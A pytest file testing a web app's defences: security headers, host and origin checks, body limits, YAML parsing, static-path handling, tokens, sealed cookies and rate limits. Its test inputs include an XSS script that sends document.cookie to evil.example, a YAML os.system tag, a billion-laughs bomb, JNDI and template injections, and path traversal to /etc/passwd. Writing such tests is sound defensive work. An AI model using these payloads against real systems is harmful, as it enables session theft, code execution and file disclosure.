"""Nothing is let in that should not be: hosts, origins, tokens, sizes, depths, paths; every reply carries the strict headers."""

from __future__ import annotations

import json
import logging

import pytest

from detente.web.security import HEADERS, Rate, Sessions
from detente.web.settings import Settings

TOKEN = "correct-horse-battery-staple"
SOLVE = "/api/v1/solve"
STATE = {"dossier": "kuala-lumpur-2025"}


@pytest.fixture(scope="module")
def closed(tmp_path_factory, server_of):
    folder = tmp_path_factory.mktemp("closed")
    settings = Settings(host="0.0.0.0", token=TOKEN, names=("detente.example",), data=folder, in_process=True)
    with server_of(settings, "http://detente.example", alive=False) as found:
        yield found


# -- headers -----------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("method", "path"),
    [("GET", "/healthz"), ("GET", "/metrics"), ("GET", "/api/openapi.json"), ("GET", "/api/docs"), ("GET", "/nowhere"),
     ("GET", "/static/css/plain.css"), ("POST", SOLVE), ("PUT", SOLVE), ("GET", "/api/v1/catalogue"), ("GET", "/")],
)  # fmt: skip
def test_every_reply_carries_the_headers(client, method, path):
    reply = client.request(method, path)
    for name, value in HEADERS.items():
        assert reply.headers[name] == value, (path, name)
    assert reply.headers["cache-control"] in ("no-store", "no-cache")
    assert "server" not in reply.headers


def test_the_content_policy_lets_no_foreign_code_in():
    rules = dict(part.strip().split(" ", 1) for part in HEADERS["Content-Security-Policy"].split(";"))
    assert rules["default-src"] == "'none'"
    assert rules["script-src"] == "'self'"
    assert rules["frame-ancestors"] == "'none'"
    assert "unsafe" not in HEADERS["Content-Security-Policy"]
    assert "http" not in HEADERS["Content-Security-Policy"]


# -- hosts and origins ---------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("host", "status"),
    [("localhost:8000", 200), ("127.0.0.1:8000", 200), ("[::1]:8000", 200), ("LOCALHOST", 200), ("evil.example", 421),
     ("localhost.evil.example", 421), ("localhost@evil.example", 421), ("localhost:80:80", 421), ("", 421), ("[::1", 421)],
)  # fmt: skip
def test_only_its_own_names_are_answered(client, host, status):
    assert client.get("/healthz", headers={"Host": host}).status_code == status


@pytest.mark.parametrize(
    ("headers", "status"),
    [({"Origin": "http://localhost:8000"}, 200), ({}, 200), ({"Sec-Fetch-Site": "same-origin"}, 200),
     ({"Origin": "http://evil.example"}, 403), ({"Origin": "http://localhost:9000"}, 403), ({"Origin": "null"}, 403),
     ({"Origin": "http://["}, 403), ({"Sec-Fetch-Site": "cross-site"}, 403), ({"Sec-Fetch-Site": "same-site"}, 403)],
)  # fmt: skip
def test_what_changes_something_comes_from_its_own_page(client, headers, status):
    assert client.post(SOLVE, json=STATE, headers=headers).status_code == status


def test_a_form_of_another_site_cannot_speak_json(client):
    body = json.dumps(STATE)
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""):
        assert client.post(SOLVE, content=body, headers={"Content-Type": kind}).status_code == 415


# -- bodies --------------------------------------------------------------------------------------------------------------
def test_a_body_that_says_it_is_too_large_is_not_read(client):
    reply = client.post("/api/v1/dossiers", content=b"x" * 2_000_001, headers={"Content-Type": "application/json"})
    assert reply.status_code == 413
    assert reply.json()["error"] == "TooLarge"


def test_a_body_that_does_not_say_is_read_only_so_far(client):
    taken = 0

    def drops():
        nonlocal taken
        for _ in range(1000):
            taken += 10_000
            yield b" " * 10_000

    assert client.post("/api/v1/dossiers", content=drops(), headers={"Content-Type": "application/json"}).status_code == 413


@pytest.mark.parametrize("body", ["[" * 100_000, '{"a":' * 5_000 + "1" + "}" * 5_000, '{"content":' + "[" * 61 + "]" * 61 + "}"])
def test_deep_bodies_are_refused_without_recursion(client, body):
    reply = client.post(SOLVE, content=body, headers={"Content-Type": "application/json"})
    assert reply.status_code == 400
    assert "deep" in reply.json()["message"]


BROKEN = [b"{", b"\xff\xfe", b'{"dossier": "\\ud800"}', b"1" * 10_000, b'{"levers": {"a": 1e999}}', b"null"]


@pytest.mark.parametrize("body", BROKEN)
def test_broken_bodies_are_told_so(client, body):
    reply = client.post(SOLVE, content=body, headers={"Content-Type": "application/json"})
    assert reply.status_code in (400, 422)
    assert reply.json()["message"]


def test_billion_laughs_are_not_laughed_at(client):
    rows = ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    rows += [f"{chr(98 + k)}: &{chr(98 + k)} [{', '.join(['*' + chr(97 + k)] * 9)}]" for k in range(9)]
    reply = client.post("/api/v1/dossiers", json={"text": "\n".join(rows)})
    assert reply.status_code == 422
    assert "anchors and aliases" in reply.json()["message"]
    assert len(reply.content) < 1_000


@pytest.mark.parametrize(
    ("text", "words"),
    [("!!python/object/apply:os.system ['true']", "tags"), ("[" * 2_000 + "]" * 2_000, "deeper"), ("a: 1\na: 2", "twice"),
     ("", "empty"), ("{}", "missing"), ("{", "YAML"), ("- " * 30_000, "deeper"), ("\x00", "YAML")],
)  # fmt: skip
def test_hostile_dossiers_are_refused_in_words(client, text, words):
    reply = client.post("/api/v1/dossiers", json={"text": text})
    assert reply.status_code == 422
    assert words in reply.json()["message"]


def test_hostile_articles_come_back_as_data(client, caplog):
    article = (
        "GENEVA, 3 March 2025 - Norway threatened a 15% tariff on Chilean copper starting April 1. "
        '<script>fetch("http://evil.example/"+document.cookie)</script> "><img src=x onerror=alert(1)> {{7*7}} ${jndi:x}'
    )
    with caplog.at_level(logging.INFO, logger="detente.web"):
        reply = client.post("/api/v1/read", json={"text": article})
    assert reply.status_code == 200
    assert reply.headers["content-type"] == "application/json"
    found = reply.json()
    assert any(f["kind"] == "measure" and f["measure"]["rate_pct"] == 15 for f in found["findings"])
    for finding in found["findings"]:
        assert article[finding["start"] : finding["end"]] == finding["text"]
    assert found["content"] is None
    assert found["problems"]
    assert "Norway" not in caplog.text


# -- paths ---------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "path",
    ["../settings.py", "..%2fsettings.py", "%2e%2e/settings.py", "css/../../settings.py", "css/%2e%2e/%2e%2e/settings.py",
     "..\\settings.py", "/etc/passwd", "%2fetc%2fpasswd", "css//plain.css", "css/plain.css/", "css", "", ".hidden",
     "css/plain.css%00", "%c0%ae%c0%ae/settings.py", "....//settings.py", "css/PLAIN.css"],
)  # fmt: skip
def test_only_files_of_the_page_are_served(client, path):
    reply = client.get(f"/static/{path}")
    assert reply.status_code in (404, 307)
    assert b"dataclass" not in reply.content
    assert b"root:" not in reply.content


def test_a_file_of_the_page_is_served_once(client):
    first = client.get("/static/css/plain.css")
    assert first.status_code == 200
    assert first.headers["content-type"].startswith("text/css")
    again = client.get("/static/css/plain.css", headers={"If-None-Match": first.headers["etag"]})
    assert (again.status_code, again.content) == (304, b"")
    assert client.get("/static/css/plain.css", headers={"If-None-Match": '"other"'}).status_code == 200


# -- tokens --------------------------------------------------------------------------------------------------------------
def test_beyond_this_machine_nothing_is_said_without_the_token(closed):
    for path in ("/api/v1/catalogue", "/metrics", "/api/openapi.json", "/api/docs", "/api/v1/jobs/x"):
        reply = closed.get(path)
        assert reply.status_code == 401, path
        assert reply.headers["www-authenticate"] == "Bearer"
    assert closed.post(SOLVE, json=STATE).status_code == 401
    assert closed.get("/").headers["location"] == "/login"
    assert closed.get("/healthz").status_code == 200


@pytest.mark.parametrize(
    "given",
    ["", TOKEN[:-1], TOKEN + "x", TOKEN.upper(), Sessions(TOKEN).begin(), "é" * 20],
    ids=["none", "shorter", "longer", "capitals", "a session's", "accents"],
)
def test_wrong_tokens_are_wrong(closed, given):
    headers = {"Authorization": f"Bearer {given}".encode()}
    assert closed.get("/api/v1/catalogue", headers=headers).status_code == 401


def test_the_token_and_the_cookie_let_in(closed):
    assert closed.get("/api/v1/catalogue", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
    reply = closed.post("/login", data={"token": TOKEN})
    cookie = reply.headers["set-cookie"]
    assert reply.status_code == 303
    assert "HttpOnly" in cookie
    assert "samesite=strict" in cookie.lower()
    assert TOKEN not in cookie
    assert closed.get("/api/v1/catalogue").status_code == 200  # with the cookie just set
    assert closed.get("/api/v1/catalogue", headers={"Cookie": "detente=wrong"}).status_code == 401
    closed.cookies.clear()


def test_signing_out_ends_the_cookie_wherever_it_lies(closed, tmp_path):
    sent = closed.post("/login", data={"token": TOKEN}).headers["set-cookie"]
    copy = {"Cookie": sent.partition(";")[0]}
    other = {"Cookie": closed.post("/login", data={"token": TOKEN}).headers["set-cookie"].partition(";")[0]}
    closed.cookies.clear()
    assert closed.get("/api/v1/catalogue", headers=copy).status_code == 200
    assert closed.post("/logout", headers=copy).status_code == 303
    closed.cookies.clear()
    assert closed.get("/api/v1/catalogue", headers=copy).status_code == 401
    assert closed.get("/api/v1/catalogue", headers=other).status_code == 200  # another browser stays signed in


def test_what_was_signed_out_stays_so_when_the_server_starts_anew(tmp_path):
    path = tmp_path / "signed-out.json"
    first = Sessions(TOKEN, path)
    kept, ended = first.begin(), first.begin()
    first.end(ended)
    first.end("not ours")
    assert path.stat().st_mode & 0o777 == 0o600
    for again in (first, Sessions(TOKEN, path)):
        assert (again.fits(kept), again.fits(ended)) == (True, False)
    assert not Sessions(TOKEN + "x", path).fits(kept)
    for damage in ("", "[", "[1]", '{"a": "b"}', "[" * 100_000):
        path.write_text(damage)
        assert Sessions(TOKEN, path).fits(kept)


@pytest.mark.parametrize("changed", ["name", "day", "seal", "more"])
def test_a_cookie_is_sealed(changed, monkeypatch):
    sessions = Sessions(TOKEN)
    name, ends, seal = sessions.begin().split(".")
    odd = {"name": f"{'0' * 24}.{ends}.{seal}", "day": f"{name}.{int(ends) + 1}.{seal}", "seal": f"{name}.{ends}.{seal[::-1]}"}
    assert not sessions.fits(odd.get(changed, f"{name}.{ends}.{seal}.x"))
    monkeypatch.setattr("detente.web.security.time", lambda: int(ends) + 1.0)
    assert not sessions.fits(f"{name}.{ends}.{seal}")  # its time is over


def test_wrong_tokens_are_slowed_down(tmp_path, server_of):
    settings = Settings(host="0.0.0.0", token=TOKEN, names=("detente.example",), data=tmp_path, in_process=True)
    with server_of(settings, "http://detente.example", alive=False) as asked:
        cookie = {"Cookie": asked.post("/login", data={"token": TOKEN}).headers["set-cookie"].partition(";")[0]}
        asked.cookies.clear()
        wrong, right = {"Authorization": "Bearer no"}, {"Authorization": f"Bearer {TOKEN}"}
        seen = [asked.get("/api/v1/catalogue", headers=wrong).status_code for _ in range(12)]
        assert (seen[0], seen[-1]) == (401, 429)
        assert asked.get("/api/v1/catalogue", headers=right).status_code == 429  # else guessing would be free
        assert asked.get("/api/v1/catalogue", headers=cookie).status_code == 200  # who is in stays in


def test_guessing_is_slowed_down(closed):
    seen = [closed.post("/login", data={"token": "no"}).status_code for _ in range(12)]
    assert seen[0] == 401
    assert seen[-1] == 429


def test_a_token_is_needed_to_listen_beyond_this_machine():
    for host in ("0.0.0.0", "::", "192.168.1.5", "detente.example"):
        with pytest.raises(ValueError, match="--token"):
            Settings(host=host)
    with pytest.raises(ValueError, match="16"):
        Settings(host="0.0.0.0", token="short")
    assert Settings(host="::1").loopback
    assert TOKEN not in repr(Settings(host="0.0.0.0", token=TOKEN))


def test_a_client_that_asks_too_often_waits():
    rate = Rate(rate=2, burst=3)
    assert [rate.take("a", 0.0) for _ in range(3)] == [0, 0, 0]
    assert rate.take("a", 0.0) == pytest.approx(0.5)
    assert rate.take("b", 0.0) == 0
    assert rate.take("a", 0.5) == 0
    assert rate.take("a", 0.5) == pytest.approx(0.5)


def test_the_log_has_a_line_a_request_and_no_secrets(closed, caplog):
    with caplog.at_level(logging.INFO, logger="detente.web"):
        closed.get("/api/v1/jobs/secret-name?token=abc", headers={"Authorization": f"Bearer {TOKEN}"})
    lines = [r.msg for r in caplog.records if isinstance(r.msg, dict) and r.msg["event"] == "request"]
    assert lines[-1]["method"] == "GET"
    assert {"request", "status", "ms", "client", "path"} <= set(lines[-1])
    assert not any(word in str(lines) for word in (TOKEN, "secret-name", "abc", "testclient"))


def test_counters_speak_prometheus(client):
    client.get("/healthz")
    lines = client.get("/metrics").text.splitlines()
    assert any(line.startswith('detente_requests_total{method="GET",path="/healthz",status="200"}') for line in lines)
    assert all(line.startswith("#") or float(line.rsplit(" ", 1)[1]) >= 0 for line in lines)
    kinds = [line.split()[2] for line in lines if line.startswith("# TYPE")]
    assert len(kinds) == len(set(kinds))
